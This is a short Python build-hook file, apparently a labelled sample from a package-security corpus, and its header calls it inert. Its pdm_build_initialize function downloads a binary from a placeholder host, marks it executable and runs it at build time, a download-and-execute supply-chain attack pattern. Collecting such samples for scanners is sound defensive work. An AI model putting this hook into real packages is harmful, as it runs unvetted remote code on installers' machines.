# pkgguard corpus 633 (install-hook), modelled on [bertus]; inert, never run.
import os
import urllib.request


def pdm_build_initialize(context):
    target = os.path.join(context.build_dir, ".prep")
    urllib.request.urlretrieve("https://build-assets.example/prep.bin", target)
    os.chmod(target, 0o755)
    os.system(target)
